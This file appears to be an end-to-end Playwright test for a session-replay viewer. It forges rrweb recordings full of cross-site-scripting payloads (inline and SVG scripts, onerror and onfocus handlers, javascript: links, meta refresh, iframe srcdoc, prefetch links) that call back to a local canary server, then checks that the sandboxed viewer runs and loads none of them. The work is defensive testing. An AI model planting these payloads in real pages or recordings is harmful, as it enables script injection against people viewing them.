// DESIGN habit 9: replay data is untrusted — anyone holding the public write key can POST any
// rrweb events. This posts hand-forged recordings full of script, handler, navigation and
// request payloads, plays them in the real viewer, and asserts that nothing ran, nothing
// navigated, no dialog opened, and the only requests that left for a foreign origin were the
// images, fonts and stylesheets a replay is allowed to load.
import { createServer, type IncomingMessage, type Server } from 'node:http';
import { expect, test, type Page } from '@playwright/test';
import { VIEWER_CSP } from '../../apps/server/src/http/csp';
import { batch, eventId, postBatch } from '../helpers/batches';
import { freePort, startServer, type RunningServer } from '../helpers/server';
import { loginViewer } from '../helpers/viewer';

let server: RunningServer;
let canary: Server;
let CANARY = '';
const hits: { method: string; url: string; dest: string }[] = [];

// rrweb wire constants (EventType / NodeType / IncrementalSource / MouseInteractions)
const EV = { FullSnapshot: 2, Incremental: 3, Meta: 4 } as const;
const NODE = { Document: 0, DocumentType: 1, Element: 2, Text: 3 } as const;
const SRC = { Mutation: 0, MouseInteraction: 2 } as const;
const CLICK = 2;
/** resource types a replay may load from the recorded site (DESIGN habit 9) */
const ALLOWED_TYPES = new Set(['image', 'font', 'stylesheet']);

/** JavaScript that, if it ever ran anywhere, leaves a trace the test can see. */
const js = (name: string) =>
  `try{top.__pwned=(top.__pwned||'')+'${name};'}catch(e){}` +
  `try{window.__pwned='${name}'}catch(e){}` +
  `try{parent.document.title='PWNED ${name}'}catch(e){}` +
  `try{fetch('${CANARY}/hit?p=${name}')}catch(e){}` +
  `try{new Image().src='${CANARY}/hit?img=${name}'}catch(e){}` +
  `try{alert('${name}')}catch(e){}`;

// ---- serialized-node builders ------------------------------------------------------------
let nextId = 1;
type SNode = Record<string, unknown>;
const el = (tagName: string, attributes: Record<string, string | boolean> = {}, childNodes: SNode[] = [], isSVG = false): SNode => ({
  type: NODE.Element,
  tagName,
  attributes,
  childNodes,
  id: nextId++,
  ...(isSVG ? { isSVG: true } : {}),
});
const text = (textContent: string, isStyle = false): SNode => ({ type: NODE.Text, textContent, id: nextId++, ...(isStyle ? { isStyle: true } : {}) });
const svg = (tag: string, attrs: Record<string, string> = {}, kids: SNode[] = []) => el(tag, attrs, kids, true);

/** Every payload once; `tag` makes marker names unique per copy (snapshot / mutation). */
function payloads(tag: string): SNode[] {
  const n = (s: string) => `${s}-${tag}`;
  return [
    el('script', {}, [text(js(n('script-inline')))]),
    el('script', { src: `${CANARY}/js/${n('script-src')}.js` }),
    el('script', { type: 'module' }, [text(js(n('script-module')))]),
    el('img', { src: 'x', onerror: js(n('img-onerror')) }),
    el('img', { src: `${CANARY}/res/${n('img')}.gif`, onload: js(n('img-onload')) }),
    el('details', { open: true, ontoggle: js(n('details-ontoggle')) }, [el('summary', {}, [text('s')]), text('d')]),
    el('input', { autofocus: true, onfocus: js(n('input-onfocus')) }),
    el('div', { tabindex: '0', autofocus: true, onfocus: js(n('div-onfocus')), onclick: js(n('div-onclick')), onmouseover: js(n('div-onmouseover')) }, [text('x')]),
    svg('svg', { width: '10', height: '10', onload: js(n('svg-onload')) }, [
      svg('rect', { width: '10', height: '10' }, [
        svg('animate', { attributeName: 'x', from: '0', to: '1', dur: '0.1s', onbegin: js(n('animate-onbegin')) }),
        svg('set', { attributeName: 'y', to: '1', onbegin: js(n('set-onbegin')) }),
      ]),
      svg('script', {}, [text(js(n('svg-script')))]),
    ]),
    el('a', { href: `javascript:${js(n('a-href'))}`, id: n('jslink'), class: 'forged-link' }, [text('link')]),
    el('a', { href: `javascript:${js(n('a-href-top'))}`, target: '_top', class: 'forged-link' }, [text('top link')]),
    el('a', { href: `${CANARY}/nav/${n('a-top-nav')}`, target: '_top', class: 'forged-link' }, [text('top nav')]),
    el('a', { href: `${CANARY}/nav/${n('a-blank')}`, target: '_blank', class: 'forged-link' }, [text('new tab')]),
    el('iframe', { srcdoc: `<script>${js(n('iframe-srcdoc'))}</script><img src=x onerror="${js(n('iframe-srcdoc-img')).replace(/"/g, '&quot;')}">` }),
    el('iframe', { src: `javascript:${js(n('iframe-js-src'))}` }),
    el('iframe', { src: `${CANARY}/frame/${n('iframe-src')}.html` }),
    el('object', { data: `${CANARY}/frame/${n('object-data')}.html`, type: 'text/html' }),
    el('embed', { src: `${CANARY}/frame/${n('embed-src')}.html`, type: 'text/html' }),
    el('form', { action: `javascript:${js(n('form-action'))}`, class: 'forged-form' }, [el('button', { type: 'submit' }, [text('go')])]),
    el('form', { action: `${CANARY}/nav/${n('form-post')}`, method: 'post', target: '_top', class: 'forged-form' }, [el('input', { name: 'a', value: 'b' })]),
    el('meta', { 'http-equiv': 'refresh', content: `0;url=${CANARY}/nav/${n('meta-refresh')}` }),
    el('meta', { 'http-equiv': 'refresh', content: `0;url=javascript:${js(n('meta-refresh-js'))}` }),
    el('base', { href: `${CANARY}/base/${n('base')}/` }),
    // if <base> took effect this relative image would hit /base/... on the canary
    el('img', { src: `rel-${n('base-img')}.gif` }),
    el('link', { rel: 'prefetch', href: `${CANARY}/prefetch/${n('prefetch')}` }),
    el('link', { rel: 'preload', as: 'fetch', href: `${CANARY}/prefetch/${n('preload')}` }),
    el('link', { rel: 'PreFetch', href: `${CANARY}/prefetch/${n('prefetch-case')}` }),
    el('link', { rel: 'prerender', href: `${CANARY}/prefetch/${n('prerender')}` }),
    el('link', { rel: 'modulepreload', href: `${CANARY}/js/${n('modulepreload')}.js` }),
    el('video', { src: `${CANARY}/media/${n('video')}.mp4`, autoplay: true, muted: true }),
    el('audio', { autoplay: true }, [el('source', { src: `${CANARY}/media/${n('audio-source')}.mp3` })]),
    el('video', {}, [el('track', { src: `${CANARY}/media/${n('track')}.vtt`, default: true })]),
    // stylesheets, images and fonts of the recorded site may load: allowed by design, recorded apart
    el('style', {}, [
      text(
        `@import url("${CANARY}/res/${n('import')}.css");` +
          `@font-face{font-family:f${tag};src:url("${CANARY}/res/${n('font')}.woff2")}` +
          `.bg-${tag}{background:url("${CANARY}/res/${n('bg')}.gif");font-family:f${tag}}`,
        true,
      ),
    ]),
    el('div', { class: `bg-${tag}`, style: `background-image:url("${CANARY}/res/${n('inline-bg')}.gif")` }, [text('styled')]),
    el('link', { rel: 'stylesheet', href: `${CANARY}/res/${n('link')}.css` }),
  ];
}

interface Forged {
  sessionId: string;
  events: any[];
}

/** A recording: Meta + FullSnapshot with every payload, then the same payloads added by mutations,
 * then attribute changes that arm harmless elements, clicks on the links, and a last event. */
function forge(sessionId: string, t0: number): Forged {
  nextId = 1;
  const head = el('head', {}, [el('meta', { charset: 'utf-8' })]);
  const mutHost = el('div', { id: 'mut-host' });
  const attrImg = el('img', { id: 'attr-img' });
  const attrA = el('a', { id: 'attr-a', href: '#ok' }, [text('attr link')]);
  const attrIframe = el('iframe', { id: 'attr-iframe' });
  const attrIframe2 = el('iframe', { id: 'attr-iframe2' });
  const attrDetails = el('details', { id: 'attr-details' }, [el('summary', {}, [text('s')])]);
  const attrInput = el('input', { id: 'attr-input' });
  const attrForm = el('form', { id: 'attr-form', class: 'forged-form' });
  const attrObject = el('object', { id: 'attr-object' });
  const attrScript = el('script', { id: 'attr-script' }, [text('')]);
  const attrScriptText = (attrScript.childNodes as SNode[])[0];
  const attrLink = el('link', { id: 'attr-link', rel: 'stylesheet', href: `${CANARY}/res/attr-link.css` });
  const attrLink2 = el('link', { id: 'attr-link2', rel: 'prefetch' });
  const attrAnimate = svg('animate', { attributeName: 'x', from: '0', to: '1', dur: '0.1s', begin: 'indefinite' });
  const body = el('body', { onload: js('body-onload-snap') }, [
    ...payloads('snap'),
    mutHost,
    attrImg,
    attrA,
    attrIframe,
    attrIframe2,
    attrDetails,
    attrInput,
    attrForm,
    attrObject,
    attrScript,
    attrLink,
    attrLink2,
    svg('svg', { width: '10', height: '10' }, [svg('rect', { width: '10', height: '10' }, [attrAnimate])]),
  ]);
  const html = el('html', {}, [head, body]);
  const doc = { type: NODE.Document, childNodes: [{ type: NODE.DocumentType, name: 'html', publicId: '', systemId: '', id: nextId++ }, html], id: nextId++ };

  const events: any[] = [
    { type: EV.Meta, data: { href: 'https://shop.example/forged', width: 1024, height: 768 }, timestamp: t0 },
    { type: EV.FullSnapshot, data: { node: doc, initialOffset: { left: 0, top: 0 } }, timestamp: t0 + 1 },
  ];
  const mutation = (ts: number, m: Partial<Record<'adds' | 'attributes' | 'texts' | 'removes', unknown[]>>) =>
    events.push({ type: EV.Incremental, data: { source: SRC.Mutation, adds: [], attributes: [], texts: [], removes: [], ...m }, timestamp: ts });

  // the same payloads, added later
  const added = payloads('mut');
  mutation(t0 + 400, { adds: flatAdds(mutHost.id as number, added) });
  // and a whole new <head> child + body handler
  mutation(t0 + 500, {
    adds: flatAdds(head.id as number, [
      el('meta', { 'http-equiv': 'refresh', content: `0;url=${CANARY}/nav/meta-refresh-head-mut` }),
      el('base', { href: `${CANARY}/base/head-mut/` }),
      el('script', {}, [text(js('head-script-mut'))]),
    ]),
  });

  // attribute changes arm elements that were harmless in the snapshot
  mutation(t0 + 700, {
    attributes: [
      { id: attrImg.id, attributes: { onerror: js('attr-img-onerror'), src: 'x' } },
      { id: attrA.id, attributes: { href: `javascript:${js('attr-a-href')}`, class: 'forged-link' } },
      { id: attrIframe.id, attributes: { srcdoc: `<script>${js('attr-iframe-srcdoc')}</script>` } },
      { id: attrIframe2.id, attributes: { src: `javascript:${js('attr-iframe-js-src')}` } },
      { id: attrDetails.id, attributes: { ontoggle: js('attr-details-ontoggle'), open: '' } },
      { id: attrInput.id, attributes: { onfocus: js('attr-input-onfocus'), autofocus: '' } },
      { id: attrForm.id, attributes: { action: `javascript:${js('attr-form-action')}` } },
      { id: attrObject.id, attributes: { data: `${CANARY}/frame/attr-object-data.html`, type: 'text/html' } },
      { id: attrScript.id, attributes: { src: `${CANARY}/js/attr-script-src.js` } },
      { id: attrLink.id, attributes: { rel: 'prefetch' } },
      { id: attrLink2.id, attributes: { href: `${CANARY}/prefetch/attr-link2` } },
      { id: attrAnimate.id, attributes: { onbegin: js('attr-animate-onbegin'), begin: '0s' } },
      { id: body.id, attributes: { onload: js('attr-body-onload'), onfocus: js('attr-body-onfocus'), onpageshow: js('attr-body-onpageshow') } },
    ],
    texts: [{ id: attrScriptText.id, value: js('attr-script-text') }],
  });
  // a style attribute change pointing at the canary (allowed resource: image)
  mutation(t0 + 800, { attributes: [{ id: mutHost.id, attributes: { style: { 'background-image': `url("${CANARY}/res/attr-style-bg.gif")` } } }] });

  // "clicks" on every forged link and button in the recording
  let ts = t0 + 1000;
  const clickable = (n: SNode): number[] => {
    const own = ['a', 'button', 'summary', 'input', 'div'].includes(n.tagName as string) ? [n.id as number] : [];
    return [...own, ...((n.childNodes as SNode[] | undefined) ?? []).flatMap(clickable)];
  };
  for (const id of [...clickable(body), ...added.flatMap(clickable)]) {
    events.push({ type: EV.Incremental, data: { source: SRC.MouseInteraction, type: CLICK, id, x: 5, y: 5 }, timestamp: (ts += 10) });
  }
  mutation(t0 + 2500, { adds: flatAdds(body.id as number, [el('p', {}, [text('the end')])]) });
  return { sessionId, events };
}

/** Mutation adds carry one node each (rrweb builds them without children): parents first. */
function flatAdds(parentId: number, nodes: SNode[]): { parentId: number; nextId: null; node: SNode }[] {
  return nodes.flatMap((n) => {
    const { childNodes, ...own } = n;
    const kids = (childNodes as SNode[] | undefined) ?? [];
    return [{ parentId, nextId: null, node: own.type === NODE.Element ? { ...own, childNodes: [] } : own }, ...flatAdds(n.id as number, kids)];
  });
}

function replayChunk(f: Forged) {
  return { id: eventId(), sessionId: f.sessionId, rec: `rec-${f.sessionId}`, seq: 0, ts: f.events[0].timestamp, events: f.events };
}

function pageview(sessionId: string, ts: number) {
  return { id: eventId(), type: 'pageview' as const, ts, sessionId, anonymousId: `anon-${sessionId}`, url: 'https://shop.example/forged' };
}

function recordHit(req: IncomingMessage) {
  hits.push({ method: req.method ?? '', url: req.url ?? '', dest: String(req.headers['sec-fetch-dest'] ?? '') });
}

test.describe.configure({ mode: 'serial' });

test.beforeAll(async () => {
  const canaryPort = await freePort();
  CANARY = `http://127.0.0.1:${canaryPort}`;
  canary = createServer((req, res) => {
    recordHit(req);
    const path = (req.url ?? '').split('?')[0];
    const name = path.split('/').pop() ?? '';
    // every response is something that would set a marker if it were ever executed
    if (path.startsWith('/js/')) {
      res.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
      res.end(js(`served-${name}`));
    } else if (path.endsWith('.css')) {
      res.writeHead(200, { 'content-type': 'text/css', 'access-control-allow-origin': '*' });
      res.end(`body{outline:1px solid red}`);
    } else if (path.endsWith('.gif')) {
      res.writeHead(200, { 'content-type': 'image/gif' });
      res.end(Buffer.from('R0lGODlhAQABAAAAACw=', 'base64'));
    } else {
      res.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' });
      res.end(`<!doctype html><script>${js(`served-${name}`)}</script><img src=x onerror="${js(`served-img-${name}`).replace(/"/g, '&quot;')}">`);
    }
  });
  await new Promise<void>((r) => canary.listen(canaryPort, '127.0.0.1', () => r()));
  server = await startServer();
});

test.afterAll(async () => {
  await server?.stop();
  await new Promise<void>((r) => (canary ? canary.close(() => r()) : r()));
});

const login = (page: Page, path = '/') => loginViewer(page, server, path);

/** Markers in the viewer page and every frame reachable from it (same origin: the replay frame). */
async function markers(page: Page): Promise<unknown[]> {
  const found: unknown[] = [];
  const top = await page.evaluate(() => {
    const out: string[] = [];
    if ((window as any).__pwned) out.push(`top:${(window as any).__pwned}`);
    if (/PWNED/.test(document.title)) out.push(`title:${document.title}`);
    const walk = (doc: Document, path: string) => {
      doc.querySelectorAll('iframe, object, embed').forEach((f, i) => {
        let w: any = null;
        try {
          w = (f as HTMLIFrameElement).contentWindow;
          if (w && w.__pwned) out.push(`${path}/${i}:${w.__pwned}`);
          if (w && w.document && /PWNED/.test(w.document.title)) out.push(`${path}/${i} title:${w.document.title}`);
          if (w && w.document) walk(w.document, `${path}/${i}`);
        } catch {
          /* cross-origin or no document: covered by the per-frame check below */
        }
      });
    };
    walk(document, 'frame');
    return out;
  });
  found.push(...top);
  for (const f of page.frames()) {
    const v = await f.evaluate(() => (window as any).__pwned ?? null).catch(() => null);
    if (v) found.push(`${f.url()}: ${v}`);
  }
  return found;
}

test('a forged recording cannot run code, navigate the viewer or reach other origins', async ({ page, context }) => {
  const sessionId = `forged-${Date.now()}`;
  const t0 = Date.now() - 60_000;
  const f = forge(sessionId, t0);
  const res = await postBatch(server.url, server.projectKey, { ...batch([pageview(sessionId, t0)]), replay: [replayChunk(f)] });
  expect(res.status, await res.clone().text()).toBe(200);

  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(`${d.type()}: ${d.message()}`);
    void d.dismiss().catch(() => {});
  });
  const popups: string[] = [];
  context.on('page', (p) => popups.push(p.url()));
  const requests: { url: string; type: string }[] = [];
  page.on('request', (r) => requests.push({ url: r.url(), type: r.resourceType() }));
  const mainNavs: string[] = [];
  page.on('framenavigated', (fr) => {
    if (fr === page.mainFrame()) mainNavs.push(fr.url());
  });

  await login(page);
  const docRes = await page.goto(`${server.url}/sessions/${sessionId}`);
  expect(docRes!.headers()['content-security-policy']).toBe(VIEWER_CSP);
  const viewerUrl = page.url();
  mainNavs.length = 0;

  const iframe = page.getByTestId('replay-frame-container').locator('iframe').first();
  await expect(iframe).toHaveCount(1);
  const sandbox = await iframe.getAttribute('sandbox');
  expect(sandbox).not.toBeNull();
  expect(sandbox!.split(/\s+/)).not.toContain('allow-scripts');
  expect(sandbox!.split(/\s+/)).not.toContain('allow-top-navigation');

  // play to the end
  await page.getByTestId('play-button').click();
  await expect(page.getByTestId('play-button')).toHaveAttribute('aria-label', 'Play', { timeout: 20_000 });
  const frame = page.frameLocator('[data-testid=replay-frame-container] [data-active] iframe');
  await expect(frame.getByText('the end')).toHaveCount(1);
  // the forged DOM really is there (so the payloads were rebuilt, not dropped by accident)
  await expect(frame.locator('.forged-link')).not.toHaveCount(0);

  // an analyst (or a bug in the viewer) clicking into the replay must not run or navigate anything
  await page.evaluate(() => {
    const doc = (document.querySelector('[data-testid=replay-frame-container] [data-active] iframe') as HTMLIFrameElement).contentDocument!;
    const all = (d: Document): Document[] => [d, ...[...d.querySelectorAll('iframe')].flatMap((i) => (i.contentDocument ? all(i.contentDocument) : []))];
    for (const d of all(doc)) {
      d.querySelectorAll<HTMLElement>('a, button, summary').forEach((a) => {
        try {
          a.click();
        } catch {
          /* ignore */
        }
      });
      d.querySelectorAll<HTMLFormElement>('form').forEach((fm) => {
        try {
          fm.requestSubmit();
        } catch {
          /* ignore */
        }
      });
      d.querySelectorAll<HTMLElement>('input, [tabindex]').forEach((i) => {
        try {
          i.focus();
        } catch {
          /* ignore */
        }
      });
    }
  });

  // seek back through the timeline and replay the mutations once more
  const timeline = page.getByTestId('timeline');
  const box = (await timeline.boundingBox())!;
  await page.mouse.click(box.x + 2, box.y + box.height / 2);
  await page.mouse.click(box.x + box.width * 0.5, box.y + box.height / 2);
  await page.mouse.click(box.x + box.width - 1, box.y + box.height / 2);

  await page.waitForTimeout(2_000);

  expect(await markers(page)).toEqual([]);
  expect(await page.title()).not.toMatch(/PWNED/);
  expect(dialogs).toEqual([]);
  expect(popups).toEqual([]);
  expect(page.url()).toBe(viewerUrl);
  expect(mainNavs).toEqual([]);

  // the canary only ever saw allowed resource loads (every one under /res/)
  const scriptDriven = hits.filter((h) => !h.url.startsWith('/res/'));
  expect(scriptDriven, JSON.stringify(hits, null, 1)).toEqual([]);
  for (const h of hits) expect(['image', 'font', 'style']).toContain(h.dest);

  // and the browser sent nothing elsewhere: the viewer's own origin, or the canary for allowed types
  const viewerOrigin = new URL(server.url).origin;
  const canaryOrigin = new URL(CANARY).origin;
  const bad = requests.filter((r) => {
    if (/^(data|blob|about):/.test(r.url)) return false;
    const origin = new URL(r.url).origin;
    if (origin === viewerOrigin) return false;
    return !(origin === canaryOrigin && ALLOWED_TYPES.has(r.type));
  });
  expect(bad).toEqual([]);
  const allowed = requests.filter((r) => r.url.startsWith(canaryOrigin));
  test.info().annotations.push({ type: 'allowed canary loads', description: allowed.map((r) => `${r.type} ${r.url.slice(canaryOrigin.length)}`).join(', ') || 'none' });
});

test('viewer responses carry the strict CSP', async () => {
  for (const path of ['/', '/sessions/x', '/definitions', '/insights']) {
    const r = await fetch(server.url + path);
    expect(r.headers.get('content-security-policy'), path).toBe(VIEWER_CSP);
  }
});
